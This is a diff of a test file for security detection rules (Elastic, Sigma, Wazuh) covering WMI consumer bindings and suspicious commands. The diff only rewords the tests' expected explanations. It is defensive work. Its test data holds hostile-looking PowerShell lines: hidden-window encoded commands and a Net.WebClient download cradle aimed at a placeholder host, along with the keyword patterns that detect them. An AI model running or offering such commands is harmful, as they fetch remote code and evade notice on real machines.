@@ -71,14 +71,14 @@ describe('Elastic, on bindings', () => {
       'relative',
       { id: 21 },
       false,
-      'Consumer is a relative path, and the rule asks for "subscription:" before the class',
+      'Consumer is a relative path, and the rule requires "subscription:" before the class',
     ],
-    ['deleted', { ...binding, operation: 'Deleted' }, false, 'Operation is Deleted, and the rule asks for Created'],
+    ['deleted', { ...binding, operation: 'Deleted' }, false, 'Operation is Deleted, and the rule requires Created'],
     [
       'another class',
       { id: 21, consumerPath: ABSOLUTE.replace('CommandLine', 'LogFile') },
       false,
-      'Consumer is of another class than the rule asks for',
+      'Consumer has another class than the rule requires',
     ],
   ])('%s', (_name, event, fires, why) => {
     expect(told([event], ELASTIC)).toEqual([fires, why]);
@@ -95,15 +95,15 @@ describe('Sigma and Wazuh, on what is run', () => {
   test.each([
     ['powershell -NonI -W hidden -enc SQBFAFgA', true, 'Destination has " -enc "', true],
     ['powershell -Sta -Nop -Window Hidden -EncodedCommand SQBF', true, 'Destination has " -nop "', true],
-    ['powershell -e SQBFAFgA', false, 'Destination has none of the words that the rule asks for', true],
+    ['powershell -e SQBFAFgA', false, 'Destination has none of the words that the rule looks for', true],
     [
       "powershell (New-Object Net.WebClient).DownloadString('http://a.example')",
       true,
       'Destination has "new-object", "net.webclient", ".downloadstring"',
       true,
     ],
-    ['C:\\Windows\\System32\\notepad.exe', false, 'Destination has none of the words that the rule asks for', false],
-    ['CMD.EXE /c echo', false, 'Destination has none of the words that the rule asks for', true],
+    ['C:\\Windows\\System32\\notepad.exe', false, 'Destination has none of the words that the rule looks for', false],
+    ['CMD.EXE /c echo', false, 'Destination has none of the words that the rule looks for', true],
   ])('%s', (destination, fires, why, byWazuh) => {
     expect(told([{ id: 20, destination }], SCRIPTING)).toEqual([fires, why]);
     expect(told([{ id: 20, destination }], '89502')[0]).toBe(byWazuh);
@@ -119,7 +119,7 @@ describe('Sigma and Wazuh, on what is run', () => {
 
   test('a Log File consumer is none that runs code', () => {
     const event = { id: 20, type: 'Log File', destination: 'C:\\cmd.exe.log' } as const;
-    expect(told([event], '89501')).toEqual([false, 'Type is Log File, and the rule asks for Command Line or Script']);
+    expect(told([event], '89501')).toEqual([false, 'Type is Log File, and the rule requires Command Line or Script']);
     expect(told([event], '89502')[0]).toBe(false);
   });
 
@@ -130,7 +130,7 @@ describe('Sigma and Wazuh, on what is run', () => {
     const found = detectionsOf({ ...chain, consumer }).find(({ id }) => id === SCRIPTING);
     expect([found?.fires, found?.why]).toEqual([
       'unknown',
-      'Destination has none of the words that the rule asks for; but its Destination was cut',
+      'Destination has none of the words that the rule looks for; but its Destination was cut',
     ]);
   });
 });
